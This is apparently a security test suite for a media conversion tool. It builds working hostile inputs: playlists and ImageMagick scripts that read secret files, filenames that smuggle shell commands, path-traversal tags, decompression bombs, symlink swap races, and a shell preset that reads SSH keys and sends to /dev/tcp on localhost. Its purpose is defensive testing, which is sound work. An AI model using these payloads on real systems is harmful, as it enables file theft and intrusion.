#!/usr/bin/python3
"""Files, names and presets that are made to do harm: attacks_test.py CLI FAKECONVERTER [what unittest takes]

Where it costs little, a test first shows that its attack works on the bare tool; an attack that does nothing proves
nothing. Then it goes through the program, with the sandbox (which must hold whatever the command is) and without it
(where arguments, private folders and checks must hold alone)."""
import contextlib
import json
import os
import resource
import shutil
import socket
import stat
import struct
import subprocess
import sys
import threading
import time
import unittest
import zlib

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import clibench  # noqa: E402
import media  # noqa: E402
from clibench import Programs, wait_until  # noqa: E402

SECRET = b"The door opens with 4711-kestrel. "
SECRET_COLOUR = "D00DAD"
LAYERS = ("auto", "off")
IM = shutil.which("convert-im6.q16") or "convert"


class Listener:
    """Counts who calls on this computer, and answers nobody."""

    def __init__(self):
        self.calls = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.listen, daemon=True).start()

    def listen(self):
        with contextlib.suppress(OSError):
            while True:
                caller, _ = self.socket.accept()
                self.calls += 1
                caller.close()

    def call(self):
        """So that calls before it are counted."""
        socket.create_connection(("127.0.0.1", self.port)).close()


def bare(*command, **more):
    """A tool without anything of ours around it."""
    return subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60, **more)


class Attacks(clibench.CliBench):
    def setUp(self):
        super().setUp()
        self.listener = Listener()
        self.addCleanup(self.listener.socket.close)
        self.home = os.path.join(self.folder, "home")
        self.environment["HOME"] = self.home
        self.secret = media.write(os.path.join(self.home, ".ssh/id_ed25519"), SECRET * 50)
        # The same as sound and as a picture, because that is how a converter would hand it on.
        self.secret_sound = media.write(os.path.join(self.source, "secret.wav"), self.sound_of(SECRET * 3000))
        self.secret_picture = os.path.join(self.home, "secret.png")
        bare(IM, "-size", "60x40", "xc:#" + SECRET_COLOUR, self.secret_picture, check=True)
        self.outside = os.path.join(self.folder, "outside")
        os.makedirs(self.outside)
        os.makedirs(os.path.join(self.folder, "helper"))

    @staticmethod
    def sound_of(samples):
        return b"RIFF" + struct.pack("<I", 36 + len(samples)) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16) + \
            b"data" + struct.pack("<I", len(samples)) + samples

    def layers(self):
        """Each with an output folder of its own, whose name tells in a failure which layer it was."""
        for layer in LAYERS:
            if layer == "auto" and not shutil.which("bwrap"):
                print("NOT TESTED with a sandbox: bubblewrap is not installed")
                continue
            self.output = os.path.join(self.folder, "out " + layer)
            yield layer

    def attack(self, layer, preset, *arguments):
        """Ends by name, after seeing that nothing of the secret went anywhere and nothing else changed."""
        before, calls = self.everything_else(), self.listener.calls
        begin = time.monotonic()
        process = self.start("convert", "--preset", preset, "--output", self.output, "--flat", "--format", "json", "--sandbox", layer,
                             *arguments)
        try:
            printed, errors = process.communicate(timeout=200)
        except subprocess.TimeoutExpired:
            process.kill()
            self.fail("%s does not end: %s" % (preset, process.communicate()[0][-2000:]))
        self.assertIn(process.returncode, (0, 1), "%s\n%s" % (printed[-2000:], errors[-2000:]))
        self.seconds = time.monotonic() - begin
        self.assertEqual("without a sandbox" in errors, layer == "off", errors)
        self.errors = errors
        self.nothing_leaked(printed + errors)
        self.assertEqual(self.everything_else(), before, "something changed outside of the output folder")
        self.assertEqual(self.listener.calls, calls, "somebody called")
        return {os.path.basename(event["input"]): event for event in map(json.loads, printed.splitlines()) if event["event"] == "finished"}

    def everything_else(self):
        """But results, and what the program keeps for itself."""
        return {path: digest for path, digest in media.digests(self.folder).items()
                if not path.startswith(("out ", "state/", "cache/", "tmp/", "listed"))}

    def nothing_leaked(self, printed):
        telling = SECRET.strip().decode()
        self.assertNotIn(telling, printed)
        for parent, _, names in os.walk(self.output):
            for path in (os.path.join(parent, name) for name in names):
                self.assertFalse(os.path.islink(path), path)
                self.assertFalse(self.tells_the_secret(path), "%s tells the secret" % path)

    @staticmethod
    def tells_the_secret(path):
        content = media.read(path)
        if SECRET.strip() in content:
            return True
        if path.endswith((".png", ".jpg", ".webp", ".gif")):
            colours = bare(IM, path, "-depth", "8", "-format", "%c", "histogram:info:").stdout
            return SECRET_COLOUR.encode() in colours
        if path.endswith((".wav", ".flac", ".mkv", ".mp4", ".m4a", ".ogv")):
            sound = bare("ffmpeg", "-v", "quiet", "-i", "file:" + path, "-map", "0:a:0", "-f", "s16le", "-ac", "1", "-ar", "8000", "-").stdout
            return SECRET.strip() in sound
        return False

    def tool_preset(self, name, *command, suffix="out", **more):
        """A user's preset that takes anything."""
        return self.preset(name, steps=[{"command": list(command)}], output={"suffix": suffix, "check": "none"}, **more)

    # -- Files that name other files

    def test_playlists_that_are_called_films(self):
        concat = self.file("concat.mp4", b"ffconcat version 1.0\nfile secret.wav\n")
        far = self.file("far.mp4", b"ffconcat version 1.0\nfile '%s'\n" % os.fsencode(self.secret_sound))
        url = "http://127.0.0.1:%d/a.ts" % self.listener.port
        hls = self.file("list.m3u8", ("#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n%s\n#EXT-X-ENDLIST\n" % url).encode())
        called_film = shutil.copy(hls, os.path.join(self.source, "list.mp4"))
        # After a header that makes it look like a film.
        dressed = self.file("dressed.avi", b"RIFF\x00\x10\x00\x00AVI LIST" + media.read(hls))

        # The attacks work.
        leak = os.path.join(self.folder, "helper", "leak.wav")
        bare("ffmpeg", "-v", "error", "-i", concat, "-c", "copy", leak)
        self.assertIn(SECRET.strip(), media.read(leak), "the attack does not work")
        os.remove(leak)
        bare("ffmpeg", "-v", "error", "-protocol_whitelist", "file,http,tcp,crypto,data", "-i", hls, "-f", "null", "-")
        self.listener.call()
        wait_until("the attack works", lambda: self.listener.calls >= 2)

        films = [concat, far, hls, called_film, dressed]
        guarded = self.tool_preset("guarded", "ffmpeg", "{ffmpeg.common}", "-i", "{input}", "-c", "copy", "{output}", suffix="wav")
        open_to_all = self.tool_preset("open", "ffmpeg", "-y", "-safe", "0", "-protocol_whitelist", "file,http,tcp,crypto,data", "-f",
                                       "concat", "-i", "{input}", "-c", "copy", "{output}", suffix="wav")
        # These would call, were there a network.
        calling = self.tool_preset("calling", "ffmpeg", "-y", "-protocol_whitelist", "file,http,tcp,crypto,data", "-f", "hls", "-i", "{input}",
                                   "-c", "copy", "{output}", suffix="wav")
        for layer in self.layers():
            for preset in ("audio-wav", "video-remux-mkv", "audio-extract", guarded) + ((open_to_all, calling) if layer == "auto" else ()):
                events = self.attack(layer, preset, *films)
                self.assertNotIn("done", {event["state"] for event in events.values()}, preset)
                self.assertEqual(media.digests(self.output) if os.path.isdir(self.output) else {}, {})

    def test_drawings_and_scripts_that_are_called_photos(self):
        picture, here = self.secret_picture, "http://127.0.0.1:%d/a.png" % self.listener.port
        texts = {
            "mvg": "push graphic-context\nviewbox 0 0 60 40\nimage over 0,0 60,40 \"%s\"\npop graphic-context\n" % picture,
            "svg": "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"60\" height=\"40\">"
                   "<image xlink:href=\"%s\" width=\"60\" height=\"40\"/></svg>" % picture,
            "msl": "<?xml version=\"1.0\"?><image><read filename=\"%s\"/><write filename=\"%s/written.png\"/></image>" % (picture, self.outside),
            "url": "push graphic-context\nviewbox 0 0 60 40\nimage over 0,0 60,40 \"%s\"\npop graphic-context\n" % here,
        }
        sources = []
        for kind, text in texts.items():
            for ending in ("jpg", "png", kind):
                sources.append(self.file("%s.%s" % (kind, ending), text.encode()))
        # A JPEG's first bytes in front do not make a photo of it.
        sources.append(self.file("dressed.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\0" + texts["mvg"].encode()))

        leak = os.path.join(self.folder, "helper", "leak.png")
        bare(IM, "mvg:" + sources[0], "png:" + leak)
        self.assertTrue(self.tells_the_secret(leak), "the attack does not work")
        os.remove(leak)

        plain = self.tool_preset("plain", "convert", "{convert.common}", "{input}", "png:{output}", suffix="png")
        drawing = {kind: self.tool_preset("as-" + kind, "convert", kind + ":{input}", "png:{output}", suffix="png")
                   for kind in ("mvg", "msvg", "msl", "text")}
        for layer in self.layers():
            for preset in ("photo-web-jpeg", "photo-gamma", plain, *drawing.values()):
                events = self.attack(layer, preset, *sources)
                if preset.startswith("photo"):
                    self.assertNotIn("done", {event["state"] for event in events.values()})
            self.assertEqual(os.listdir(self.outside), [])

    def test_names_that_tools_would_take_for_orders(self):
        heard = bare("ffmpeg", "-v", "error", "-i", "concat:%s|" % self.secret_sound, "-f", "s16le", "-").stdout
        self.assertIn(SECRET.strip(), heard, "the attack does not work")
        names = ["msl:x.png", "mvg:x.png", "|touch pwned;.png", "`touch pwned`.png", "-write pwned.png", "@secret.wav.png", "ephemeral:x.png",
                 "%d%d%d%x%n.png", "label:@secret.png", "x.png[0].png", "inline:data.png", "x.png[Q=1,profile=secret.wav].png", "-.png",
                 "http:127.0.0.1:%d.png" % self.listener.port]
        for name in names:
            self.file(name, media.png(30, 20))
        sounds = ["concat:secret.wav|.wav", "subfile,,start,0,end,99,,:secret.wav", "-f lavfi.wav", "tcp:127.0.0.1:%d.wav" % self.listener.port,
                  "data:audio.wav", "%05d.wav", "-o pwned.wav"]
        for name in sounds:
            self.file(name, media.wav(0.3))
        for layer in self.layers():
            for preset, called in (("photo-web-jpeg", names), ("photo-gamma", names), ("audio-flac", sounds), ("audio-flac-album", sounds[:2])):
                events = self.attack(layer, preset, "--", *[os.path.join(self.source, name) for name in called])
                self.assertEqual({name: event["state"] for name, event in events.items()}, dict.fromkeys(called, "done"))
            self.assertEqual([name for name in os.listdir(self.folder) + os.listdir(self.output) if name.startswith("pwned")], [])

    # -- Names of results

    def test_tags_that_climb_out_of_the_folder(self):
        climbing = ["../../climbed", "/etc/batchwright-climbed", "..", ".", "../" * 40 + "tmp/batchwright-climbed", "a/../../b", "con", "nul.txt",
                    "line\nbreak", "bell\x07", "\x1b[2Jclear", "\u202egnp.exe", "~/.bashrc", "-rf", ".hidden", "x" * 5000, "\\..\\..\\y", "{stem}{index}",
                    "$(touch pwned)", "COM1:", " ", "\u2026/\u2025/x"]
        tone = media.write(os.path.join(self.folder, "helper", "tone.wav"), media.wav(0.2))
        os.makedirs(self.source, exist_ok=True)
        sources = []
        for number, tag in enumerate(climbing):
            path = os.path.join(self.source, "%02d.flac" % number)
            bare("flac", "-s", "-o", path, "-T", "ARTIST=" + tag, "-T", "TITLE=" + tag, tone, check=True)
            sources.append(path)
        os.remove(tone)
        for layer in self.layers():
            for template in ["{artist}" if layer == "auto" else "{artist}/{title}"]:
                events = self.attack(layer, "audio-wav", "--name", template, *sources)
                self.assertEqual(len(events), len(climbing))
                self.assertGreater([event["state"] for event in events.values()].count("done"), len(climbing) // 2)
                for name, event in events.items():
                    if event["state"] != "done":
                        self.assertEqual(event["error"], "bad-name", event)
                        continue
                    self.check_place(event["output"], template.count("/"))
            for template in ("../{stem}", "/etc/{stem}", "a/../../{stem}", ".."):
                process = self.start("convert", "--preset", "audio-wav", "--name", template, "--output", self.output, "--sandbox", layer,
                                     sources[0])
                errors = process.communicate(timeout=60)
                self.assertIn(process.returncode, (0, 1, 2), errors)
                self.assertEqual([path for path in media.digests(self.folder) if path.endswith("00.wav") and not path.startswith("out ")], [])
                self.assertFalse(os.path.exists("/etc/00.wav"))
        self.assertFalse(os.path.exists("/etc/batchwright-climbed.wav"))
        self.assertFalse(os.path.exists("/tmp/batchwright-climbed.wav"))

    def check_place(self, path, folders):
        place = os.path.realpath(path)
        self.assertTrue(place.startswith(os.path.realpath(self.output) + "/"), path)
        below = os.path.relpath(place, os.path.realpath(self.output))
        self.assertLessEqual(below.count("/"), folders, below)
        self.assertFalse([letter for letter in below if ord(letter) < 32 or letter in "\u202e\u202d\u2066\x7f"], repr(below))
        self.assertTrue(all(len(os.fsencode(part)) <= 255 for part in below.split("/")))

    def test_variables_and_album_sheets_that_climb(self):
        sound = self.file("one.wav", media.wav(0.2))
        for layer in self.layers():
            for value in ("../../climbed", "/etc/climbed", "a\nb", "..", "x" * 3000):
                sheet = media.write(os.path.join(self.folder, "helper", "sheet.json"), json.dumps(
                    {"artist": value, "album": value, "year": 1, "tracks": [value]}).encode())
                events = self.attack(layer, "audio-flac-album", "--vars-from", sheet, "--name", "{artist} {title}", sound)
                os.remove(sheet)
                if events["one.wav"]["state"] == "done":
                    self.check_place(events["one.wav"]["output"], 0)
                else:
                    self.assertIn(events["one.wav"]["error"], ("bad-name", "bad-sheet"))

    # -- Too much

    def bomb(self, side):
        """A PNG of one colour that takes side x side pixels in memory and a thousandth of that on the disk."""
        def chunk(kind, content):
            return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        squeeze = zlib.compressobj(9)
        row = b"\0" + bytes((side + 7) // 8)
        rows = b"".join(squeeze.compress(row * 100) for _ in range(side // 100)) + squeeze.flush()
        return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")

    def test_bombs(self):
        self.file("bomb.png", self.bomb(10000))
        huge = self.file("huge.png", self.bomb(30000))  # minutes of work
        # A picture of four thousand million pixels that is not there.
        self.file("claims.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\0\0\0\0\0,\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;")
        self.file("claims.bmp", b"BM" + struct.pack("<IHHIIiiHHIIiiII", 1000, 0, 0, 54, 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(900))
        head = struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 0x7fffffff, 0x7fffffff, 16, 6, 0, 0, 0)
        self.file("claims.png", b"\x89PNG\r\n\x1a\n" + head + struct.pack(">I", zlib.crc32(head[4:])) + bytes(100))
        sources = [os.path.join(self.source, name) for name in ("bomb.png", "claims.gif", "claims.bmp", "claims.png")]
        for layer in self.layers():
            for preset in ("photo-web-jpeg",) + (("photo-webp",) if layer == "auto" else ()):
                events = self.attack(layer, preset, *sources)
                for name in ("claims.gif", "claims.bmp", "claims.png"):
                    self.assertNotEqual(events[name]["state"], "done", events[name])
                self.assertEqual(events["bomb.png"]["state"], "done", events["bomb.png"])
                self.assertLess(self.seconds, 150)
            # Too many pixels to begin with; and where the preset allows them, not forever.
            event = self.attack(layer, "photo-web-jpeg", huge)["huge.png"]
            self.assertEqual(event["error"], "too-large", event)
            limited = self.preset("limited", steps=[{"command": ["vips", "thumbnail", "{input}", "{output}", "2048"]}],
                                  output={"suffix": "jpg", "check": "image"}, limits={"seconds": 5, "megapixels": 0})
            event = self.attack(layer, limited, huge)["huge.png"]
            self.assertTrue(event["state"] == "done" or event["error"] == "timed-out", event)
            self.assertLess(self.seconds, 60)
        # Of all programs that ran for this test, the largest one. Kilobytes.
        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, 1500 * 1000)

    def test_a_tag_with_ten_megabytes(self):
        text = media.write(os.path.join(self.folder, "helper", "text"), b"A long story. " * 750000)
        tone = media.write(os.path.join(self.folder, "helper", "tone.wav"), media.wav(0.3))
        os.makedirs(self.source, exist_ok=True)
        flac, mp3, png = (os.path.join(self.source, name) for name in ("long.flac", "long.mp3", "long.png"))
        notes = media.write(os.path.join(self.folder, "helper", "notes"), b";FFMETADATA1\ntitle=" + media.read(text) + b"\nartist=x\n")
        for path in (flac, mp3):
            bare("ffmpeg", "-v", "error", "-i", tone, "-f", "ffmetadata", "-i", notes, "-map_metadata", "1", path, check=True)
            self.assertGreater(os.path.getsize(path), 10 * 1000 * 1000, "the attack does not work")
        chunk = b"tEXtComment\0" + media.read(text)
        plain = media.png(30, 20)
        media.write(png, plain[:33] + struct.pack(">I", len(chunk) - 4) + chunk + struct.pack(">I", zlib.crc32(chunk)) + plain[33:])
        for helper in (text, tone, notes):
            os.remove(helper)
        for layer in self.layers():
            for preset, names in (("audio-wav", [flac, mp3]), ("audio-opus", [flac, mp3]), ("photo-web-jpeg", [png])):
                events = self.attack(layer, preset, *names, *(["--name", "{title} {stem}"] if preset == "audio-wav" else []))
                for event in events.values():
                    # The tag is cut where it makes a name, and is no reason to refuse the file.
                    self.assertEqual(event["state"], "done", event)
                    self.assertLess(len(event["log"] or ""), 2 * 1000 * 1000)
                    self.check_place(event["output"], 0)
                    self.assertTrue(preset != "audio-wav" or os.path.basename(event["output"]).startswith("A long story. A long"), event)
                self.assertLess(self.seconds, 100)
        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, 1500 * 1000)

    # -- Things that are no files

    def test_what_is_not_a_file(self):
        os.makedirs(self.source, exist_ok=True)
        fifo, loop, dangling, zero, to_fifo, server, memory = (os.path.join(self.source, name + ".png")
                                                       for name in ("fifo", "loop", "dangling", "zero", "to fifo", "socket", "memory"))
        os.mkfifo(fifo)
        os.symlink(loop, loop)
        os.symlink(os.path.join(self.folder, "nowhere"), dangling)
        os.symlink("/dev/zero", zero)
        os.symlink(fifo, to_fifo)
        os.symlink("/proc/self/environ", memory)
        held = socket.socket(socket.AF_UNIX)
        self.addCleanup(held.close)
        held.bind(os.path.relpath(server))  # a path of its own may be too long
        with self.assertRaises(subprocess.TimeoutExpired):
            subprocess.run(["vips", "avg", fifo], timeout=2, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        good = self.file("good.png", media.png(30, 20))
        odd = [fifo, loop, dangling, zero, to_fifo, server, memory, "/dev/zero", "/dev/stdin", "/proc/self/fd/0"]
        for layer in self.layers():
            for sources in ([self.source], odd + [good]):
                process = self.start("convert", "--preset", "photo-web-jpeg", "--output", self.output, "--flat", "--format", "json", "--sandbox",
                                     layer, *sources)
                printed, errors = process.communicate(timeout=100)
                self.assertIn(process.returncode, (0, 1), errors)
                ends = {event["input"]: event["state"] for event in map(json.loads, printed.splitlines()) if event["event"] == "finished"}
                self.assertEqual([os.path.basename(path) for path, state in ends.items() if state == "done"], ["good.png"])
                if sources != [self.source]:
                    # Each that was named is told about, in one way or the other.
                    for path in odd:
                        self.assertIn(os.path.basename(path), printed + errors)
                self.assertTrue(stat.S_ISFIFO(os.stat(fifo).st_mode))

    def test_a_file_that_is_swapped_before_its_turn(self):
        """Planned as a harmless file, it is a link to the secret when its turn comes. (Another ordinary file under the same
        name is converted: programs that save write a new file and rename it.)"""
        for layer in self.layers():
            for swap in ("link", "folder link"):
                shutil.rmtree(self.output, ignore_errors=True)
                gates = os.path.join(self.folder, "helper", "gates")
                shutil.rmtree(gates, ignore_errors=True)
                os.makedirs(gates)
                shutil.rmtree(self.source, ignore_errors=True)
                first = self.file("a/1.bin", b"harmless")
                second = self.file("b/2.bin", b"harmless")
                more = {"readOnly": [gates]} if layer == "auto" else {}
                preset = self.preset("slow", "--copy", "{input}", "{output}", "--wait-for", os.path.join(gates, "open"), **more)
                process = self.start("convert", "--preset", preset, "--output", self.output, "--flat", "--jobs", "1", "--format", "json",
                                     "--sandbox", layer, first, second)
                self.addCleanup(process.kill)
                lines = []
                while len([line for line in lines if '"planned"' in line]) < 2:
                    lines.append(process.stdout.readline())
                    self.assertTrue(lines[-1], process.stderr.read() if not lines[-1] else "")
                if swap == "folder link":
                    shutil.rmtree(os.path.join(self.source, "b"))
                    media.write(os.path.join(self.home, "b/2.bin"), SECRET)
                    os.symlink(os.path.join(self.home, "b"), os.path.join(self.source, "b"))
                else:
                    os.remove(second)
                    os.symlink(self.secret, second)
                media.write(os.path.join(gates, "open"), b"")
                rest, errors = process.communicate(timeout=100)
                shutil.rmtree(gates)
                printed = "".join(lines) + rest
                ends = {os.path.basename(event["input"]): event for event in map(json.loads, printed.splitlines())
                        if event["event"] == "finished"}
                with self.subTest(swap=swap):
                    self.assertEqual(ends["1.bin"]["state"], "done", ends["1.bin"])
                    self.assertEqual((ends["2.bin"]["state"], ends["2.bin"]["error"]), ("failed", "source-changed"), ends["2.bin"])
                    self.nothing_leaked(printed + errors)

    # -- A preset from a stranger

    def stranger(self, touch):
        """A preset that reads, writes and calls whatever it can, and hands on what it found. `touch`: the original too."""
        script = ("exec >\"$2\" 2>&1; cat '%(secret)s'; cat ~/.ssh/*; cat '%(other)s'; echo x >'%(outside)s/a'; ln -s /nowhere '%(outside)s/b';"
                  "%(touch)s echo x >'%(source)s/c'; (echo hello >/dev/tcp/127.0.0.1/%(port)d); cat /proc/1/environ /proc/$PPID/environ;"
                  "ln -s '%(secret)s' out/link; true") % {
                      "touch": "echo x >>\"$1\";" if touch else "", "secret": self.secret, "other": self.secret_sound, "outside": self.outside, "source": self.source, "port": self.listener.port}
        return self.preset("stranger", steps=[{"command": ["bash", "-c", script, "bash", "{input}", "{output}"]}],
                           output={"suffix": "txt", "check": "none"})

    def test_a_preset_that_runs_a_shell(self):
        source = self.file("a.bin", b"x" * 100)
        # In an environment that has something to hide.
        self.environment["TOKEN"] = SECRET.strip().decode()
        preset = self.stranger(touch=False)

        # Without the sandbox a preset may do what its user may do: that is what is told.
        process = self.start("convert", "--preset", preset, "--output", os.path.join(self.folder, "out bare"), "--sandbox", "off", source)
        _, errors = process.communicate(timeout=60)
        self.assertIn("without a sandbox", errors)
        self.assertIn(SECRET.strip(), b"".join(media.read(os.path.join(self.folder, "out bare", path))
                                               for path in media.digests(os.path.join(self.folder, "out bare"))), "the attack does not work")
        self.listener.call()
        wait_until("the attack works", lambda: self.listener.calls >= 2)
        for name in os.listdir(self.outside):
            os.remove(os.path.join(self.outside, name))
        shutil.rmtree(os.path.join(self.folder, "out bare"))
        media.write(os.path.join(self.source, "c"), b"")

        if not shutil.which("bwrap"):
            self.skipTest("bubblewrap is not installed")
        self.output = os.path.join(self.folder, "out auto")
        source = self.file("a.bin", b"x" * 100)
        self.attack("auto", self.stranger(touch=True), source)
        self.assertEqual(os.listdir(self.outside), [])
        self.assertEqual(media.read(source), b"x" * 100)

    def outsider(self):
        """The output of a call with a preset that runs outside of the sandbox."""
        if not shutil.which("bwrap"):
            self.skipTest("bubblewrap is not installed")
        source = self.file("a.bin", b"x" * 100)
        preset = self.preset("outsider", "--copy", "{input}", "{output}", "--read", self.secret, sandbox=False)

        def call(*arguments):
            process = self.start("convert", "--preset", preset, "--output", self.output, *arguments, source)
            printed, errors = process.communicate(timeout=60)
            return process.returncode, printed + errors
        return call

    def test_the_plan_tells_of_a_preset_outside_of_the_sandbox(self):
        status, words = self.outsider()("--sandbox", "auto", "--dry-run")
        self.assertEqual(status, 0, words)
        self.assertIn("runs its converters without a sandbox", words)

    def test_a_run_tells_of_a_preset_outside_of_the_sandbox(self):
        status, words = self.outsider()("--sandbox", "auto")
        self.assertEqual(status, 0, words)
        self.assertIn("without a sandbox", words)

    def test_a_preset_outside_of_the_sandbox_does_not_run_where_one_is_required(self):
        status, words = self.outsider()("--sandbox", "require", "--format", "json")
        self.assertEqual(status, 1, words)
        self.assertEqual(os.listdir(self.output) if os.path.isdir(self.output) else [], [])

    def test_presets_that_make_no_sense(self):
        def text(**more):
            preset = {"id": "x", "name": "x", "group": "Test", "about": "For a test.", "accepts": {"kinds": ["any"]}, "options": [],
                      "steps": [{"command": ["wc", "{input}"]}], "output": {"suffix": "out"}}
            preset.update(more)
            return json.dumps(preset).encode()

        good = text()
        step = {"command": ["wc", "{input}"]}
        bad = {
            "no bytes": b"", "no text": os.urandom(2000), "not utf-8": good.replace(b'"x"', b'"\xff\xfe"'), "half": good[:-20],
            "deep arrays": b"[" * 100000, "deep objects": b'{"a":' * 100000, "deep steps": text(steps=[]).replace(b"[]", b"[" * 100000 + b"]" * 100000),
            "a deep command": text(steps=[{"command": ["wc", [[[["{input}"]]]]]}]),
            "null": b"null", "a list": b"[1]", "a number": b"1e99999", "no steps": text(steps=[]), "steps are text": text(steps="rm -rf /"),
            "no command": text(steps=[{"command": []}]), "a command of numbers": text(steps=[{"command": [1, 2]}]),
            "a command of text": text(steps=[{"command": "rm -rf /"}]), "an unknown key": text(shell="rm -rf /"),
            "a suffix that climbs": text(output={"suffix": "../../x"}), "a suffix with a slash": text(output={"suffix": "a/b"}),
            "no id": text(id=""), "limits below nothing": text(limits={"seconds": -1}), "limits beyond measure": text(limits={"seconds": 1e300}),
            "limits of text": text(limits={"seconds": "many"}), "limits of half": text(limits={"memoryMegabytes": 0.5}),
            "more threads than there are": text(steps=[dict(step, threads=1e18)]), "fewer threads than one": text(steps=[dict(step, threads=-5)]),
            "an endless weight": text(steps=[dict(step, weight=1e308)]), "a weight of nothing": text(steps=[dict(step, weight=-1)]),
            "a pattern that is none": text(output=None, measure={"pattern": "(((", "columns": []}),
            "both ends": text(measure={"pattern": "(?<a>.)", "columns": []}),
            "a relative mount": text(readOnly=["../.."]), "a mount of everything": text(readOnly=["/"]), "a mount of no text": text(readOnly=[1]),
            "a huge option": text(options=[{"id": "a", "label": "a", "type": "integer", "min": 0, "max": 1e300, "default": 5}]),
            "an option upside down": text(options=[{"id": "a", "label": "a", "type": "integer", "min": 9, "max": 1, "default": 5}]),
        }
        self.refuses_all(bad)

    def test_presets_that_make_no_sense_and_are_taken(self):
        step = {"command": ["wc", "{input}"]}
        good = {"id": "x", "name": "x", "group": "Test", "about": "For a test.", "accepts": {"kinds": ["any"]}, "options": [], "steps": [step],
                "output": {"suffix": "out"}}
        bad = {"a name that climbs": dict(good, output={"suffix": "x", "name": "../../{stem}"}), "an id that climbs": dict(good, id="../../x"),
               "a null byte": dict(good, steps=[{"command": ["wc\0x", "{input}"]}])}
        self.refuses_all({name: json.dumps(preset).encode() for name, preset in bad.items()})

    def refuses_all(self, bad):
        accepted, told_badly = [], []
        for name, content in bad.items():
            path = media.write(os.path.join(self.folder, "helper", "bad.json"), content)
            process = self.start("presets", "check", path)
            printed, errors = process.communicate(timeout=30)
            os.remove(path)
            self.assertGreaterEqual(process.returncode, 0, "%s: it crashed" % name)
            words = (printed + errors).strip()
            if process.returncode == 0:
                accepted.append(name)
            elif not words.endswith(".") or len(words) > 2000 or "\x1b" in words:
                told_badly.append((name, words[:300]))
        self.assertEqual(told_badly, [])
        self.assertEqual(accepted, [])

    def check_that_others_work(self):
        process = self.start("presets", "show", "photo-web-jpeg", preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30)))
        try:
            printed, errors = process.communicate(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.communicate()
            self.fail("it hangs")
        self.assertEqual(process.returncode, 0, errors)
        self.assertIn("Web JPEG", printed)

    def presets_folder(self):
        folder = os.path.join(self.environment["XDG_CONFIG_HOME"], "batchwright/presets")
        os.makedirs(folder)
        return folder

    def test_strangers_presets_do_not_stop_the_others(self):
        folder = self.presets_folder()
        media.write(os.path.join(folder, "deep.json"), b'{"a":' * 100000)
        media.write(os.path.join(folder, "junk.json"), os.urandom(100000))
        os.mkfifo(os.path.join(folder, "fifo.json"))
        self.check_that_others_work()

    def test_a_preset_without_an_end_does_not_stop_the_others(self):
        os.symlink("/dev/zero", os.path.join(self.presets_folder(), "zero.json"))
        self.check_that_others_work()


if __name__ == "__main__":
    clibench.main(sys.argv, "ffmpeg", "flac", "vips", IM, "bash")
